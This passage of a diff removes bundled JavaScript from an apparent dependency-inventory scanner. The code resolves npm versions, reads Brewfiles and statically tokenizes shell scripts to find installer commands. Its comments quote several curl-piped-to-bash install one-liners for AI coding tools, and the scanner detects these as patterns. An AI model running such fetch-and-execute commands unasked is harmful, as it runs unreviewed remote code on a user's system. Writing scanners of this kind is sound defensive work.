-                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
-                        return { reason: `${where} answered ${req.name} with an invalid version` };
-                    }
-                    return { version, registry: where };
-                }
-                catch (e) {
-                    const f = failureOf(e);
-                    if (attempt <= retries && isRetryable(f, timedOut)) {
-                        clearTimeout(timer);
-                        await sleep(retryDelayMs * 2 ** (attempt - 1));
-                        continue;
-                    }
-                    const reason = npm_resolver_describe(f, timedOut, req, where, attempt, timeoutMs);
-                    if (isUnanswered(f, timedOut)) {
-                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
-                        unanswered.set(registry, { inARow, last: reason });
-                    }
-                    else
-                        unanswered.delete(registry);
-                    return { reason, byPackage: f.code !== 'ETARGET' };
-                }
-                finally {
-                    clearTimeout(timer);
-                }
-            }
-        };
-        const outcomes = await Promise.all(wanted.map((w) => {
-            if (w === null)
-                return Promise.resolve(null);
-            if ('reason' in w)
-                return Promise.resolve(w);
-            if (config === null)
-                return Promise.resolve({ reason: OFFLINE_NOTE });
-            const key = `${w.name}@${w.spec}`;
-            let p = lookups.get(key);
-            if (!p) {
-                const cfg = config;
-                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
-                p = previous.then((before) => {
-                    if (before && 'reason' in before && before.byPackage)
-                        return before;
-                    stats.lookups++;
-                    return limit(() => lookUp(cfg, w)).catch((e) => ({
-                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
-                    }));
-                });
-                lookups.set(key, p);
-                lastOfPackage.set(w.name, p);
-            }
-            return p;
-        }));
-        const secrets = config?.secrets ?? [];
-        const out = components.map((c, i) => {
-            const outcome = outcomes[i];
-            const w = wanted[i];
-            if (!outcome || !w)
-                return c;
-            if ('version' in outcome && !('reason' in w)) {
-                stats.resolved++;
-                return {
-                    ...c,
-                    version: outcome.version,
-                    purl: purlFor(c.ecosystem, c.name, outcome.version),
-                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
-                };
-            }
-            stats.unresolved++;
-            const reason = 'reason' in outcome ? outcome.reason : '';
-            return {
-                ...c,
-                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
-            };
-        });
-        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
-    };
-}
-
-;// CONCATENATED MODULE: ./src/resolver/index.ts
-
-
-/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
-function auditResolveHook(resolver) {
-    return async (components, errors) => {
-        const result = await resolver(components);
-        if (result.errors)
-            errors.push(...result.errors);
-        return result.components;
-    };
-}
-
-;// CONCATENATED MODULE: ./src/detectors/component.ts
-
-/** Builds a component, computing its purl from ecosystem, name and version. */
-function makeComponent(init) {
-    return { ...init, purl: init.purl ?? purlFor(init.ecosystem, init.name, init.version) };
-}
-
-;// CONCATENATED MODULE: ./src/detectors/brewfile.ts
-
-const BREWFILE_SOURCE = 'Brewfile';
-function scanBrewfile(path, text) {
-    const components = [];
-    const lines = text.split('\n');
-    for (let i = 0; i < lines.length; i++) {
-        const m = /^\s*(brew|cask)\s*\(?\s*(["'])([^"'\s]+)\2/.exec(lines[i]);
-        if (!m)
-            continue;
-        components.push(makeComponent({
-            ecosystem: 'homebrew',
-            name: m[3],
-            version: null,
-            spec: 'latest',
-            location: { file: path, line: i + 1 },
-            source: BREWFILE_SOURCE,
-            sourceKind: 'registry',
-            resolved: m[1] === 'cask' ? 'cask' : 'formula',
-        }));
-    }
-    return { components, errors: [] };
-}
-const brewfileDetector = {
-    id: BREWFILE_SOURCE,
-    matches: (p) => /(^|\/)\.?Brewfile$/.test(p),
-    detect: ({ path, text }) => scanBrewfile(path, text),
-};
-
-;// CONCATENATED MODULE: ./src/commands/components.ts
-// Turns command findings into located components and scanner problems into located errors.
-
-function findingComponent(f, file, source) {
-    return makeComponent({
-        ecosystem: f.ecosystem,
-        name: f.name,
-        version: f.version,
-        ...(f.version === null && f.spec !== undefined ? { spec: f.spec } : {}),
-        location: { file, line: f.line },
-        source,
-        sourceKind: f.sourceKind,
-        ...(f.resolved !== undefined ? { resolved: f.resolved } : {}),
-        ...(f.alias !== undefined ? { alias: f.alias } : {}),
-    });
-}
-function problemError(p, file, what = 'shell') {
-    return { file, line: p.line, message: `${what}: ${p.message}` };
-}
-
-;// CONCATENATED MODULE: ./src/commands/expand.ts
-const MAX_DEPTH = 16;
-function expandParts(parts, lookup, depth = 0) {
-    let text = '';
-    let unknown = false;
-    for (const p of parts) {
-        if (p.k === 'lit')
-            text += p.text;
-        else if (p.k === 'opaque') {
-            // `${{ env.NAME }}` in a workflow reads the step's environment.
-            const env = /^\$\{\{\s*env\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}$/.exec(p.raw);
-            const v = env ? lookup(env[1]) : undefined;
-            text += v ? v.text : p.raw;
-            if (!v || v.unknown)
-                unknown = true;
-        }
-        else {
-            const v = expandParam(p, lookup, depth);
-            text += v.text;
-            if (v.unknown)
-                unknown = true;
-        }
-    }
-    return { text, unknown };
-}
-function expandParam(p, lookup, depth) {
-    if (depth > MAX_DEPTH)
-        return { text: p.raw, unknown: true };
-    const v = lookup(p.name);
-    const set = v !== undefined;
-    const nonEmpty = set && (v.unknown || v.text !== '');
-    const arg = () => expandParts(p.arg, lookup, depth + 1);
-    switch (p.op) {
-        case '':
-            return v ?? { text: p.raw, unknown: true };
-        case ':-':
-        case ':=':
-            if (v?.unknown)
-                return { text: p.raw, unknown: true };
-            return nonEmpty ? v : arg();
-        case '-':
-        case '=':
-            if (v?.unknown)
-                return { text: p.raw, unknown: true };
-            return set ? v : arg();
-        case ':?':
-        case '?':
-            return v ?? { text: p.raw, unknown: true };
-        case ':+':
-        case '+':
-            if (v === undefined || v.unknown)
-                return { text: p.raw, unknown: true };
-            return (p.op === '+' ? set : nonEmpty) ? arg() : { text: '', unknown: false };
-        default:
-            return { text: p.raw, unknown: true };
-    }
-}
-function expandWord(word, lookup) {
-    const v = expandParts(word.parts, lookup);
-    return { text: v.text, unknown: v.unknown, start: word.start, word };
-}
-/** `NAME=value` at the start of a word: its name and the parts of the value. */
-function splitAssignment(word) {
-    const first = word.parts[0];
-    if (!first || first.k !== 'lit')
-        return null;
-    const m = /^([A-Za-z_][A-Za-z0-9_]*)=/.exec(first.text);
-    if (!m)
-        return null;
-    // The name must be unquoted: `"A=b"` is not an assignment.
-    if (!word.raw.startsWith(m[0]))
-        return null;
-    const rest = first.text.slice(m[0].length);
-    const value = rest ? [{ k: 'lit', text: rest }, ...word.parts.slice(1)] : word.parts.slice(1);
-    return { name: m[1], value };
-}
-
-;// CONCATENATED MODULE: ./src/commands/installers.ts
-// Vendor install scripts and release-download URLs of AI coding tools: how each names itself as
-// an `installer` component and how each is told which version to install.
-/**
- * Install scripts whose version input is documented by the vendor. Unknown scripts piped to a
- * shell are still reported as `installer` components (version null, spec `latest` or the
- * arguments as written).
- */
-const vendorInstallers = [
-    // Claude Code native installer: `curl -fsSL https://claude.ai/install.sh | bash -s -- 2.1.110`
-    // (also `stable`/`latest`); the PowerShell and cmd variants take the same argument.
-    { pattern: /^claude\.ai\/install\.(sh|ps1|cmd)$/, tool: 'claude-code', version: { kind: 'positional' } },
-    // The bootstrap script install.sh hands over to, also fetched directly.
-    {
-        pattern: /^(downloads\.claude\.ai|storage\.googleapis\.com\/[^/]+)\/claude-code-releases\/bootstrap\.(sh|ps1)$/,
-        tool: 'claude-code',
-        version: { kind: 'positional' },
-    },
-    // GitHub Copilot CLI: `curl -fsSL https://gh.io/copilot-install | VERSION="v0.0.369" bash`.
-    { pattern: /^gh\.io\/copilot-install$/, tool: 'copilot-cli', version: { kind: 'env', name: 'VERSION' } },
-    {
-        pattern: /^raw\.githubusercontent\.com\/github\/copilot-cli\/[^/]+\/install\.sh$/,
-        tool: 'copilot-cli',
-        version: { kind: 'env', name: 'VERSION' },
-    },
-    // OpenCode: `curl -fsSL https://opencode.ai/install | bash -s -- --version 1.2.3`.
-    { pattern: /^opencode\.ai\/install$/, tool: 'opencode', version: { kind: 'flag', flag: '--version' } },
-    // Goose: `curl -fsSL …/block/goose/releases/download/stable/download_cli.sh | GOOSE_VERSION=v1.45.0 bash`.
-    {
-        pattern: /^github\.com\/block\/goose\/releases\/download\/[^/]+\/download_cli\.sh$/,
-        tool: 'goose',
-        version: { kind: 'env', name: 'GOOSE_VERSION' },
-    },
-    // Cursor CLI, Aider and Amp install the latest release.
-    { pattern: /^cursor\.com\/install$/, tool: 'cursor-cli', version: { kind: 'none' } },
-    { pattern: /^aider\.chat\/install\.(sh|ps1)$/, tool: 'aider', version: { kind: 'none' } },
-    { pattern: /^ampcode\.com\/install\.sh$/, tool: 'amp', version: { kind: 'none' } },
-    // Kimi Code CLI and Qwen Code install their latest release.
-    { pattern: /^code\.kimi\.com\/install\.(sh|ps1)$/, tool: 'kimi-cli', version: { kind: 'none' } },
-    {
-        pattern: /^qwen-code-assets\.oss-cn-hangzhou\.aliyuncs\.com\/installation\/install-qwen\.(sh|bat)$/,
-        tool: 'qwen-code',
-        version: { kind: 'none' },
-    },
-];
-function vendorInstaller(name) {
-    return vendorInstallers.find((v) => v.pattern.test(name));
-}
-/**
- * The `installer` component name of a URL: without scheme, query or fragment, host lowercased.
- * Null when the text is not an http(s) URL.
- */
-function installerName(url) {
-    const m = /^(?:https?:\/\/)([^/?#\s]+)([^?#\s]*)/i.exec(url);
-    if (!m)
-        return null;
-    const host = m[1].toLowerCase().replace(/^[^@]*@/, '');
-    return host + m[2];
-}
-/**
- * Release downloads: GitHub release assets (`github.com/o/r/releases/download/<tag>/…`,
- * `…/releases/latest/download/…`) and Claude Code's native release bucket
- * (`…/claude-code-releases/<version>/<platform>/claude`).
- */
-function releaseDownload(url) {
-    const name = installerName(url);
-    if (!name)
-        return null;
-    let m = /^github\.com\/([^/]+)\/([^/]+)\/releases\/(?:download\/([^/]+)|(latest)\/download)\/./i.exec(name);
-    if (m) {
-        const channel = `github.com/${m[1].toLowerCase()}/${m[2].toLowerCase()}/releases`;
-        const tag = m[3] ?? 'latest';
-        const version = versionFromTag(tag);
-        return version ? { name: channel, version } : { name: channel, version: null, spec: tag };
-    }
-    m = /^(.*\/claude-code-releases)\/([^/]+)\/./.exec(name);
-    if (m) {
-        const version = versionFromTag(m[2]);
-        return version ? { name: m[1], version } : { name: m[1], version: null, spec: m[2] };
-    }
-    return null;
-}
-/** `v1.2.3`, `rust-v0.58.0`, `1.2.3` → `1.2.3`; channels (`latest`, `stable`) → null. */
-function versionFromTag(tag) {
-    const m = /^(?:[A-Za-z][A-Za-z0-9_.]*-)?v?(\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.-]+)?)$/.exec(tag);
-    return m ? m[1] : null;
-}
-
-;// CONCATENATED MODULE: ./src/commands/packages.ts
-// Package specs as written on command lines: npm (`name@spec`, `alias@npm:real@spec`) and PyPI
-// requirements (`name[extra]==1.2`).
-
-const NPM_NAME = /^(?:@[a-z0-9~][a-z0-9._~-]*\/)?[a-z0-9~][a-z0-9._~-]*$/i;
-/** An exact version (`1.2.3`, `v1.2.3`), or null. */
-function exactVersion(spec) {
-    return semver_default().valid(spec, { loose: false }) ?? null;
-}
-/**
- * Reads an npm package argument. `unknown` says the text holds unexpanded variables (kept as
- * written). Null for arguments that do not name a registry package (paths, URLs, git specs).
- */
-function parseNpmSpec(text, unknown) {
-    if (!text ||
-        /^[./~]/.test(text) ||
-        /^(file|link|portal|workspace|git|git\+\w+|github|gitlab|bitbucket|gist|https?):/i.test(text))
-        return registryTarball(text);
-    if (text.startsWith('npm:'))
-        text = text.slice(4);
-    const at = text.indexOf('@', 1);
-    const name = at === -1 ? text : text.slice(0, at);
-    const spec = at === -1 ? '' : text.slice(at + 1);
-    if (spec.startsWith('npm:')) {
-        const real = parseNpmSpec(spec.slice(4), unknown);
-        return real && NPM_NAME.test(name) ? { ...real, alias: name } : null;
-    }
-    if (!NPM_NAME.test(name))
-        return null;
-    if (!spec)
-        return { name, version: null, spec: 'latest' };
-    if (/^(file|link|git|github|https?):/i.test(spec) || spec.includes('/'))
-        return null;
-    const version = unknown ? null : exactVersion(spec);
-    return version ? { name, version } : { name, version: null, spec };
-}
-/** A registry tarball URL (`…/@scope/name/-/name-1.2.3.tgz`) names a package and version. */
-function registryTarball(text) {
-    const m = /^https?:\/\/[^/]+(?:\/[^/]+)*?\/((?:@[^/]+\/)?[^/]+)\/-\/[^/]+-(\d+\.\d+\.\d+[^/]*?)\.tgz$/i.exec(text);
-    if (!m)
-        return null;
-    const name = decodeURIComponent(m[1]);
-    return NPM_NAME.test(name) ? { name, version: m[2] } : null;
-}
-/** PEP 503 normalisation. */
-function normalizePypiName(name) {
-    return name.toLowerCase().replace(/[-_.]+/g, '-');
-}
-/**
- * Reads a PEP 508 requirement as written on a pip/pipx/uv command line. `==1.2` (or `===`)
- * is an exact version; any other specifier is kept as the spec. `uvx` also writes `name@1.2`.
- */
-function parsePypiSpec(text, unknown, atVersion = false) {
-    const m = /^([A-Za-z0-9][A-Za-z0-9._-]*)(\[[^\]]*\])?\s*(.*)$/s.exec(text.trim());
-    if (!m)
-        return null;
-    const name = normalizePypiName(m[1]);
-    let rest = m[3].trim();
-    if (rest.startsWith(';'))
-        rest = '';
-    rest = rest.replace(/\s*;.*$/s, '');
-    if (!rest)
-        return { name, version: null, spec: 'latest' };
-    if (atVersion && rest.startsWith('@') && !rest.includes('://')) {
-        const v = rest.slice(1);
-        if (v === 'latest')
-            return { name, version: null, spec: 'latest' };
-        return !unknown && /^\d[\w.+!-]*$/.test(v) ? { name, version: v } : { name, version: null, spec: v };
-    }
-    if (rest.startsWith('@'))
-        return null; // a direct URL reference
-    if (!/^(===|==|~=|!=|<=|>=|<|>)/.test(rest))
-        return null;
-    const exact = /^===?\s*([^,\s*]+)$/.exec(rest);
-    if (exact && !unknown && /^\d/.test(exact[1]))
-        return { name, version: exact[1] };
-    return { name, version: null, spec: rest };
-}
-
-;// CONCATENATED MODULE: ./src/commands/shell.ts
-// A POSIX-shell tokenizer for static reading of install commands: quotes, escapes, line
-// continuations, comments, operators, redirections, here-documents, parameter expansions
-// (`$V`, `${V}`, `${V:-default}`), command and process substitutions. It never executes
-// anything; words keep their parts so that expansion can happen later, in order, with the
-// variables known at that point of the script.
-const RESERVED_PREFIX = new Set([
-    'if',
-    'then',
-    'else',
-    'elif',
-    'do',
-    'while',
-    'until',
-    '!',
-    '{',
-    '}',
-    'time',
-]);
-const RESERVED_ALONE = new Set(['fi', 'done', 'esac', '}', 'then', 'else', 'do', '{']);
-/** Characters with no special meaning anywhere in a word. */
-const PLAIN = /[^ \t\n\r;&|()<>'"\\$`]+/y;
-/** Problems kept per script; the rest are dropped (one located problem is enough to fail). */
-const MAX_PROBLEMS = 20;
-/**
- * Parses `text[start, end)` as a shell script. Offsets in the result are offsets into `text`.
- * Never throws; unterminated quotes, substitutions and here-documents are reported as problems
- * and read to the end.
- */
-function parseShell(text, start = 0, end = text.length) {
-    return new Lexer(text, start, end).run();
-}
-class Lexer {
-    t;
-    end;
-    i;
-    pipelines = [];
-    problems = [];
-    command = null;
-    pipeline = [];
-    pendingHeredocs = [];
-    constructor(t, start, end) {
-        this.t = t;
-        this.end = end;
-        this.i = start;
-    }
-    run() {
-        const t = this.t;
-        while (this.i < this.end) {
-            const c = t[this.i];
-            if (c === ' ' || c === '\t' || c === '\r') {
-                this.i++;
-            }
-            else if (c === '\\' && t[this.i + 1] === '\n') {
-                this.i += 2;
-            }
-            else if (c === '\\' && t[this.i + 1] === '\r' && t[this.i + 2] === '\n') {
-                this.i += 3;
-            }
-            else if (c === '#') {
-                const nl = t.indexOf('\n', this.i);
-                this.i = nl === -1 || nl > this.end ? this.end : nl;
-            }
-            else if (c === '\n') {
-                this.i++;
-                this.endPipeline();
-                this.readHeredocBodies();
-            }
-            else if (c === ';' || c === '&' || c === '(' || c === ')') {
-                if (c === '&' && t[this.i + 1] === '>') {
-                    this.readRedirect();
-                    continue;
-                }
-                this.i += c === ';' && t[this.i + 1] === ';' ? 2 : c === '&' && t[this.i + 1] === '&' ? 2 : 1;
-                this.endPipeline();
-            }
-            else if (c === '|') {
-                if (t[this.i + 1] === '|') {
-                    this.i += 2;
-                    this.endPipeline();
-                }
-                else {
-                    this.i += t[this.i + 1] === '&' ? 2 : 1;
-                    this.endCommand();
-                }
-            }
-            else if ((c === '<' || c === '>') && t[this.i + 1] === '(') {
-                this.addWord(this.readWord());
-            }
-            else if (c === '<' || c === '>') {
-                this.readRedirect();
-            }
-            else {
-                const w = this.readWord();
-                // An io-number (`2>&1`): all digits directly followed by a redirection operator.
-                if (/^\d+$/.test(w.raw) && (t[this.i] === '>' || t[this.i] === '<') && t[this.i + 1] !== '(')
-                    continue;
-                this.addWord(w);
-            }
-        }
-        this.endPipeline();
-        for (const h of this.pendingHeredocs)
-            this.problem(h.at, `unterminated here-document (<<${h.delim})`);
-        this.pendingHeredocs = [];
-        return { pipelines: this.pipelines, problems: this.problems };
-    }
-    problem(offset, message) {
-        if (this.problems.length < MAX_PROBLEMS)
-            this.problems.push({ offset, message });
-    }
-    cmd(at) {
-        if (!this.command)
-            this.command = { words: [], redirects: [], start: at };
-        return this.command;
-    }
-    addWord(w) {
-        const cmd = this.cmd(w.start);
-        if (cmd.words.length === 0 && RESERVED_PREFIX.has(w.raw))
-            return;
-        cmd.words.push(w);
-    }
-    endCommand() {
-        const c = this.command;
-        this.command = null;
-        if (!c)
-            return;
-        if (c.words.length === 1 && RESERVED_ALONE.has(c.words[0].raw))
-            c.words = [];
-        if (c.words.length > 0 || c.redirects.length > 0)
-            this.pipeline.push(c);
-    }
-    endPipeline() {
-        this.endCommand();
-        if (this.pipeline.length > 0)
-            this.pipelines.push({ commands: this.pipeline });
-        this.pipeline = [];
-    }
-    readRedirect() {
-        const t = this.t;
-        const at = this.i;
-        const m = /^(<<<|<<-|<<|<>|<&|<|>>|>&|>\||>|&>>|&>)/.exec(t.slice(this.i, this.i + 3));
-        const op = m ? m[1] : t[this.i];
-        this.i += op.length;
-        while (this.i < this.end && (t[this.i] === ' ' || t[this.i] === '\t'))
-            this.i++;
-        const redirect = { op };
-        this.cmd(at).redirects.push(redirect);
-        if (this.i >= this.end || /[\n;&|()<>]/.test(t[this.i]))
-            return;
-        const target = this.readWord();
-        redirect.target = target;
-        if (op === '<<' || op === '<<-') {
-            const delim = target.parts.map((p) => (p.k === 'lit' ? p.text : p.raw)).join('');
-            this.pendingHeredocs.push({ delim, strip: op === '<<-', redirect, at });
-        }
-    }
-    readHeredocBodies() {
-        const t = this.t;
-        for (const h of this.pendingHeredocs) {
-            const bodyStart = this.i;
-            let found = false;
-            while (this.i < this.end) {
-                let nl = t.indexOf('\n', this.i);
-                if (nl === -1 || nl > this.end)
-                    nl = this.end;
-                let line = t.slice(this.i, nl);
-                if (line.endsWith('\r'))
-                    line = line.slice(0, -1);
-                if (h.strip)
-                    line = line.replace(/^\t+/, '');
-                if (line === h.delim) {
-                    h.redirect.heredoc = { body: t.slice(bodyStart, this.i), start: bodyStart };
-                    this.i = Math.min(nl + 1, this.end);
-                    found = true;
-                    break;
-                }
-                this.i = nl + 1;
-            }
-            if (!found) {
-                this.i = this.end;
-                h.redirect.heredoc = { body: t.slice(bodyStart, this.end), start: bodyStart };
-                this.problem(h.at, `unterminated here-document (<<${h.delim})`);
-            }
-        }
-        this.pendingHeredocs = [];
-    }
-    /** Reads the whole text as the parts of one word (metacharacters are literal). */
-    readAllAsWord() {
-        return this.readWord(true).parts;
-    }
-    /** Reads one word at `this.i`, up to an unquoted metacharacter. */
-    readWord(whole = false) {
-        const t = this.t;
-        const start = this.i;
-        const parts = [];
-        let lit = '';
-        const flush = () => {
-            if (lit)
-                parts.push({ k: 'lit', text: lit });
-            lit = '';
-        };
-        while (this.i < this.end) {
-            // Runs of ordinary characters in one step.
-            PLAIN.lastIndex = this.i;
-            const run = PLAIN.exec(t);
-            if (run) {
-                const seg = this.i + run[0].length > this.end ? run[0].slice(0, this.end - this.i) : run[0];
-                lit += seg;
-                this.i += seg.length;
-                continue;
-            }
-            const c = t[this.i];
-            if (whole) {
-                // Metacharacters are literal inside a `${V:-…}` argument.
-            }
-            else if (c === ' ' ||
-                c === '\t' ||
-                c === '\n' ||
-                c === '\r' ||
-                c === ';' ||
-                c === '&' ||
-                c === '|' ||
-                c === ')')
-                break;
-            else if (c === '(')
-                break;
-            else if (c === '<' || c === '>') {
-                if (t[this.i + 1] === '(') {
-                    flush();
-                    const s = this.i;
-                    const close = this.matchParen(this.i + 2);
-                    parts.push({
-                        k: 'opaque',
-                        raw: t.slice(s, close),
-                        script: { text: t.slice(s + 2, close - 1), start: s + 2 },
-                    });
-                    this.i = close;
-                    continue;
-                }
-                break;
-            }
-            if (c === '\\') {
-                const n = t[this.i + 1];
-                if (n === '\n')
-                    this.i += 2;
-                else if (n === '\r' && t[this.i + 2] === '\n')
-                    this.i += 3;
-                else if (n === undefined || this.i + 1 >= this.end)
-                    this.i++;
-                else {
-                    lit += n;
-                    this.i += 2;
-                }
-            }
-            else if (c === "'") {
-                const close = t.indexOf("'", this.i + 1);
-                if (close === -1 || close >= this.end) {
-                    this.problem(this.i, 'unterminated single quote');
-                    lit += t.slice(this.i + 1, this.end);
-                    this.i = this.end;
-                }
-                else {
-                    lit += t.slice(this.i + 1, close);
-                    this.i = close + 1;
-                }
-            }
-            else if (c === '"') {
-                const q = this.i;
-                this.i++;
-                let closed = false;
-                while (this.i < this.end) {
-                    const d = t[this.i];
-                    if (d === '"') {
-                        this.i++;
-                        closed = true;
-                        break;
-                    }
-                    if (d === '\\') {
-                        const n = t[this.i + 1];
-                        if (n === '\n')
-                            this.i += 2;
-                        else if (n === '$' || n === '`' || n === '"' || n === '\\') {
-                            lit += n;
-                            this.i += 2;
-                        }
-                        else {
-                            lit += d;
-                            this.i++;
-                        }
-                    }
-                    else if (d === '$') {
-                        const p = this.readDollar(true);
-                        if (p) {
-                            flush();
-                            parts.push(p);
-                        }
-                        else {
-                            lit += '$';
-                            this.i++;
-                        }
-                    }
-                    else if (d === '`') {
-                        flush();
-                        parts.push(this.readBacktick());
-                    }
-                    else {
-                        lit += d;
-                        this.i++;
-                    }
-                }
-                if (!closed)
-                    this.problem(q, 'unterminated double quote');
-            }
-            else if (c === '$') {
-                const p = this.readDollar(false);
-                if (p) {
-                    flush();
-                    if (p.k === 'lit')
-                        lit += p.text;
-                    else
-                        parts.push(p);
-                }
-                else {
-                    lit += '$';
-                    this.i++;
-                }
-            }
-            else if (c === '`') {
-                flush();
-                parts.push(this.readBacktick());
-            }
-            else {
-                lit += c;
-                this.i++;
-            }
-        }
-        flush();
-        return { parts, start, raw: t.slice(start, this.i) };
-    }
-    readBacktick() {
-        const t = this.t;
-        const s = this.i;
-        let j = s + 1;
-        while (j < this.end && t[j] !== '`')
-            j += t[j] === '\\' ? 2 : 1;
-        if (j >= this.end) {
-            this.problem(s, 'unterminated backquote');
-            j = this.end - 1;
-        }
-        this.i = Math.min(j + 1, this.end);
-        return { k: 'opaque', raw: t.slice(s, this.i), script: { text: t.slice(s + 1, j), start: s + 1 } };
-    }
-    /** Offset just past the `)` that closes a `(` opened before `from`. */
-    matchParen(from) {
-        const t = this.t;
-        let depth = 1;
-        let j = from;
-        while (j < this.end) {
-            const c = t[j];
-            if (c === '\\')
-                j += 2;
-            else if (c === "'") {
-                const close = t.indexOf("'", j + 1);
-                j = close === -1 || close >= this.end ? this.end : close + 1;
-            }
-            else if (c === '"') {
-                j++;
-                while (j < this.end && t[j] !== '"')
-                    j += t[j] === '\\' ? 2 : 1;
-                j++;
-            }
-            else if (c === '(') {
-                depth++;
-                j++;
-            }
-            else if (c === ')') {
-                depth--;
-                j++;
-                if (depth === 0)
-                    return j;
-            }
-            else
-                j++;
-        }
-        this.problem(from - 2, 'unterminated substitution');
-        return this.end;
-    }
-    /** Offset just past the `}` that closes a `${` whose content starts at `from`. */
-    matchBrace(from) {
-        const t = this.t;
-        let depth = 1;
-        let j = from;
-        while (j < this.end) {
-            const c = t[j];
-            if (c === '\\')
-                j += 2;
-            else if (c === "'") {
-                const close = t.indexOf("'", j + 1);
-                j = close === -1 || close >= this.end ? this.end : close + 1;
-            }
-            else if (c === '"') {
-                j++;
-                while (j < this.end && t[j] !== '"')
-                    j += t[j] === '\\' ? 2 : 1;
-                j++;
-            }
-            else if (c === '$' && t[j + 1] === '{') {
-                depth++;
-                j += 2;
-            }
-            else if (c === '}') {
-                depth--;
-                j++;
-                if (depth === 0)
-                    return j;
-            }
-            else
-                j++;
-        }
-        return -1;
-    }
-    /** Reads a `$…` construct at `this.i`; null when the `$` is a literal dollar sign. */
-    readDollar(inDouble) {
-        const t = this.t;
-        const s = this.i;
-        const n = t[s + 1];
-        if (n === undefined || s + 1 >= this.end)
-            return null;
-        if (n === "'" && !inDouble) {
-            // ANSI-C quoting.
-            let j = s + 2;
-            let out = '';
-            while (j < this.end && t[j] !== "'") {
-                if (t[j] === '\\' && j + 1 < this.end) {
-                    const e = t[j + 1];
-                    out += e === 'n' ? '\n' : e === 't' ? '\t' : e;
-                    j += 2;
-                }
-                else
-                    out += t[j++];
-            }
-            if (j >= this.end)
-                this.problem(s, 'unterminated single quote');
-            this.i = Math.min(j + 1, this.end);
-            return { k: 'lit', text: out };
-        }
-        if (n === '(') {
-            const arith = t[s + 2] === '(';
-            const close = this.matchParen(s + 2);
-            this.i = close;
-            const raw = t.slice(s, close);
-            return arith
-                ? { k: 'opaque', raw }
-                : { k: 'opaque', raw, script: { text: t.slice(s + 2, close - 1), start: s + 2 } };
-        }
-        if (n === '{') {
-            if (t[s + 2] === '{') {
-                // A GitHub Actions expression `${{ … }}`.
-                let close = t.indexOf('}}', s + 3);
-                close = close === -1 || close + 2 > this.end ? this.end : close + 2;
-                this.i = close;
-                return { k: 'opaque', raw: t.slice(s, close) };
-            }
-            const close = this.matchBrace(s + 2);
-            if (close === -1) {
-                this.problem(s, 'unterminated ${');
-                this.i = this.end;
-                return { k: 'opaque', raw: t.slice(s, this.end) };
-            }
-            this.i = close;
-            const raw = t.slice(s, close);
-            const inner = t.slice(s + 2, close - 1);
-            const m = /^([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-=?+])([\s\S]*))?$/.exec(inner);
-            if (!m)
-                return { k: 'opaque', raw };
-            const arg = m[3] !== undefined ? parseWordText(m[3]) : [];
-            return { k: 'param', name: m[1], op: m[2] ?? '', arg, raw };
-        }
-        const m = /^[A-Za-z_][A-Za-z0-9_]*/.exec(t.slice(s + 1, Math.min(this.end, s + 257)));
-        if (m) {
-            this.i = s + 1 + m[0].length;
-            return { k: 'param', name: m[0], op: '', arg: [], raw: t.slice(s, this.i) };
-        }
-        if (/[0-9@*#?$!-]/.test(n)) {
-            this.i = s + 2;
-            return { k: 'opaque', raw: t.slice(s, s + 2) };
-        }
-        if (n === '"' && !inDouble) {
-            // `$"…"` (locale translation) reads as a double-quoted string.
-            this.i = s + 1;
-            return { k: 'lit', text: '' };
-        }
-        return null;
-    }
-}
-/** Parses the text of a `${V:-arg}` argument: quotes and expansions, no word splitting. */
-function parseWordText(text) {
-    return new Lexer(text, 0, text.length).readAllAsWord();
-}
-
-;// CONCATENATED MODULE: ./src/commands/scan.ts
-
-
-
-
-/** State shared by every script of one file (Dockerfile RUNs share downloads and variables). */
-class CommandScanner {
-    env;
-    maxSteps;
-    findings = [];
-    scriptRuns = [];
-    problems = [];
-    /** Files fetched by earlier commands: path → URL. */
-    downloads = new Map();
-    steps = 0;
-    constructor(
-    /** Variables known before the script (ARG/ENV/build args); later assignments add to it. */
-    env = new Map(), 
-    /** Most commands read per file, a bound on hostile input. */
-    maxSteps = 2_000_000) {
-        this.env = env;
-        this.maxSteps = maxSteps;
-    }
-    /**
-     * Scans `text[start, end)`. `locate` maps an offset of `text` to a 1-based line of the file.
-     */
-    scan(text, locate, start = 0, end = text.length, depth = 0) {
-        if (depth > 8)
-            return;
-        const parsed = parseShell(text, start, end);
-        for (const p of parsed.problems)
-            this.problems.push({ line: locate(p.offset), message: p.message });
-        for (const pipeline of parsed.pipelines) {
-            if (++this.steps > this.maxSteps) {
-                if (this.steps > this.maxSteps + 1)
-                    return;
-                const at = pipeline.commands[0]?.start ?? start;
-                this.problems.push({
-                    line: locate(at),
-                    message: `more than ${this.maxSteps} commands; the rest was not read`,
-                });
-                return;
-            }
-            this.pipeline(pipeline.commands, text, locate, depth);
-        }
-    }
-    /** Marks downloads never run as installers that are still installers (reported at the fetch). */
-    finish() {
-        for (const d of new Set(this.downloads.values())) {
-            if (d.used)
-                continue;
-            d.used = true;
-            this.reportFetched(d.url, d.line);
-        }
-    }
-    lookup(overlay) {
-        return (name) => overlay?.get(name) ?? this.env.get(name);
-    }
-    pipeline(commands, text, locate, depth) {
-        const prepared = commands.map((c) => this.prepare(c));
-        for (let i = 0; i < prepared.length; i++) {
-            const cmd = prepared[i];
-            const next = prepared[i + 1];
-            // `curl URL | [VERSION=x] [sudo] bash -s -- ARGS`
-            if (next && cmd.argv.length > 0 && isFetcher(cmd.argv[0].text)) {
-                const url = fetchUrl(cmd.argv);
-                const shell = next.argv.length > 0 && isPipeShell(next.argv[0].text) ? next : null;
-                if (url && shell) {
-                    this.reportInstaller(url.text, locate(url.start), shell.argv.slice(1), shell.overlay);
-                    // The shell reads the script from stdin; its own arguments are not a script path.
-                    shell.consumed = true;
-                    cmd.consumed = true;
-                    continue;
-                }
-            }
-            // `cat <<EOF | bash`: the here-document is the script.
-            if (next && cmd.heredoc && next.argv.length === 1 && SHELLS.has(base(next.argv[0].text))) {
